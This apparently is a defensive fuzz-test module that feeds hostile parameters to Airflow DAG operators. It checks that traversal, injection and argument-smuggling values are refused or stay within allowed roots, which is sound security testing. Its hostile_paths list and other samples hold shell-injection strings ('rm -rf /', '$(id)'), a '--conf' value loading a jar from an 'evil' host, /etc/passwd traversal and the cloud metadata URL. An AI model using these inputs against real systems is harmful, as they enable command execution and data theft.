"""Fuzz every DAG's params from their JSON schema (hypothesis-jsonschema), with hostile values
mixed in: path traversal (``../``), other buckets, other schemes, shell metacharacters,
``--conf`` strings, control characters, Hadoop glob and list syntax, URI escapes. What the operators accept must be
harmless: every path
under an allowed root (checked here independently of include.store), the job id a plain name,
and the spark-submit arguments one list element per value. The rest is refused with a
ConfigError/ValueError (or AirflowFailException) naming the value.
"""

from __future__ import annotations

import datetime as dt
import importlib
import os
import posixpath
import sys
from typing import Any
from urllib.parse import urlparse

ALLOWED_BUCKET, ALLOWED_PREFIX = "allowed-bucket", "jobs"
DAG_FILES = ("iterate_pagerank", "iterate_kmeans", "iterate_pagerank_daily", "iterate_sgd_incremental")
PATHS = ("input_path", "output_path", "checkpoint_root")


def hostile_paths(local_root: str) -> list[str]:
    return [
        f"{local_root}/../../etc/passwd", f"{local_root}/a/../../b", "/etc/passwd", "/", "relative/edges.csv",
        f"{local_root}/x;rm -rf /", f"{local_root}/$(touch /tmp/pwned)", f"{local_root}/`id`", f"{local_root}/a|b&c>d",
        "--conf spark.driver.extraJavaOptions=-Dx=y", "--conf=spark.jars=http://evil/x.jar", "-x",
        f"{local_root}/ok\n--conf x=y", f"{local_root}/nul\x00byte",
        "s3://other-bucket/jobs/x", f"s3://{ALLOWED_BUCKET}/other/x", f"s3://{ALLOWED_BUCKET}/jobs/../other",
        f"s3://{ALLOWED_BUCKET}/jobs/./x", f"s3://{ALLOWED_BUCKET}/jobsX/x", f"s3://user:pw@{ALLOWED_BUCKET}/jobs/x",
        f"s3://{ALLOWED_BUCKET}:9000/jobs/x", f"s3://{ALLOWED_BUCKET}/jobs/x?versionId=1",
        "file:///etc/passwd", "hdfs://namenode/x", "http://169.254.169.254/latest/meta-data/",
        f"{local_root}/{{..,x}}/secret", f"{local_root}/*", f"{local_root}/[a-z]*/x", f"{local_root}/a,/etc/passwd",
        f"{local_root}/%2e%2e/%2e%2e/etc", f"{local_root}/a\\b", f"s3://{ALLOWED_BUCKET}/jobs/{{a,b}}",
        f"s3a://{ALLOWED_BUCKET}/jobs/x", f"s3://{ALLOWED_BUCKET}/jobs/a b", f"{local_root}/caf\u00e9",
        f"{local_root}/fine/edges.csv", f"s3://{ALLOWED_BUCKET}/jobs/fine/edges.csv",
    ]


#: characters a reader downstream (Hadoop's globbing and lists, URI decoding) would interpret
INTERPRETED = set("*?[]{}\\,%#:@~ ")


def _under_roots(path: str, local_roots: list[str]) -> bool:
    """Independent of include.store: a resolved local path under a root, or an S3 key that
    normalises to itself under the allowed bucket/prefix; none holding a character a reader
    would interpret."""
    scheme, sep, rest = path.partition("://")
    if INTERPRETED & set(rest if sep else path):
        return False
    if path.startswith(("s3://", "s3a://")):
        u = urlparse(path)
        key = u.path.lstrip("/")
        return (u.netloc == ALLOWED_BUCKET and posixpath.normpath(key) == key.rstrip("/")
                and (key == ALLOWED_PREFIX or key.startswith(ALLOWED_PREFIX + "/")) and not u.query)
    if "\x00" in path or not path.startswith("/"):
        return False
    real = os.path.realpath(path)
    return any(os.path.commonpath([os.path.realpath(r), real]) == os.path.realpath(r) for r in local_roots)


def fuzz_all(examples: int = 200, local_root: str | None = None) -> dict[str, int]:
    """Run ``examples`` fuzzed param sets per DAG; returns counts: runs, refused, accepted,
    escaped (accepted and harmful: must be 0)."""
    import tempfile

    from airflow.sdk.exceptions import AirflowFailException
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st
    from hypothesis_jsonschema import from_schema

    from include.errors import ConfigError

    plugins = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))), "plugins")
    if plugins not in sys.path:  # as Airflow puts its plugins folder on the path
        sys.path.append(plugins)
    local_root = local_root or tempfile.mkdtemp(prefix="fuzz-root-")
    os.environ["ITERATIONS_ALLOWED_ROOTS"] = f"{local_root},s3://{ALLOWED_BUCKET}/{ALLOWED_PREFIX}"
    counts = {"runs": 0, "refused": 0, "accepted": 0, "escaped": 0}
    problems: list[str] = []
    for name in DAG_FILES:
        dag = importlib.import_module(f"dags.{name}").dag
        op = dag.get_task("epoch_0.run")
        from iterations.hooks.spark_epoch import submit_args

        local_roots = [r for r in op.allowed_roots if r.startswith("/")] + [local_root]
        schemas = {k: dict(p.schema) for k, p in dag.params.items()}
        defaults = {k: p.value for k, p in dag.params.items()}
        fields = {}
        for key, schema in schemas.items():
            generated = from_schema(schema) if schema else st.none()
            if key in PATHS:
                fields[key] = st.one_of(st.sampled_from(hostile_paths(local_root)), generated,
                                        st.builds(lambda tail: f"{local_root}/{tail}", st.text(max_size=20)))
            elif "object" in (schema.get("type") if isinstance(schema.get("type"), list) else [schema.get("type")]):
                # hypothesis-jsonschema 0.23's object strategy does not run on current Hypothesis
                fields[key] = st.sampled_from([{}, {"enabled": False}, {"expectations": [
                    {"name": "x", "type": "expect_column_values_to_be_between; rm -rf /"}]},
                    {"expectations": [{"name": "../../x", "type": "expect_column_max_to_be_between",
                                       "kwargs": {"column": "$(id)"}}]}])
            elif key == "job_id":
                fields[key] = st.one_of(generated, st.sampled_from(["../x", "a/b", "x --conf y", "$(id)", "-x", ""]))
            else:
                fields[key] = generated
        params_strategy = st.fixed_dictionaries({}, optional=fields)

        @settings(max_examples=examples, deadline=None, database=None, derandomize=True,
                  suppress_health_check=list(HealthCheck))
        @given(params_strategy)
        def one(given_params: dict[str, Any]) -> None:
            counts["runs"] += 1
            params = {**defaults, **given_params}
            context = {"params": params, "logical_date": dt.datetime(2026, 3, 1, tzinfo=dt.timezone.utc)}
            try:
                config = op.job_config(context)
            except (ConfigError, ValueError, TypeError, AirflowFailException):
                counts["refused"] += 1
                return
            counts["accepted"] += 1
            paths = [config.input.path, config.checkpoint_root] + ([config.output_path] if config.output_path else [])
            harmful = [p for p in paths if not _under_roots(p, local_roots)]
            from include.checkpoints.layout import JOB_ID_PATTERN

            if not JOB_ID_PATTERN.fullmatch(config.job_id):
                harmful.append(f"job_id {config.job_id!r}")

            class Plan:
                job_id, checkpoint_id, attempt_id = config.job_id, 0, "a0-fuzz"

            argv = submit_args(Plan, config.checkpoint_root, {})
            if argv[argv.index("--checkpoint-root") + 1] != config.checkpoint_root or len(argv) != 8:
                harmful.append(f"argv {argv}")
            if harmful:
                counts["escaped"] += 1
                problems.append(f"{name}: {given_params} -> {harmful}")

        one()
    if problems:
        print("\n".join(problems[:20]))
    return counts


__all__ = ["fuzz_all", "hostile_paths"]
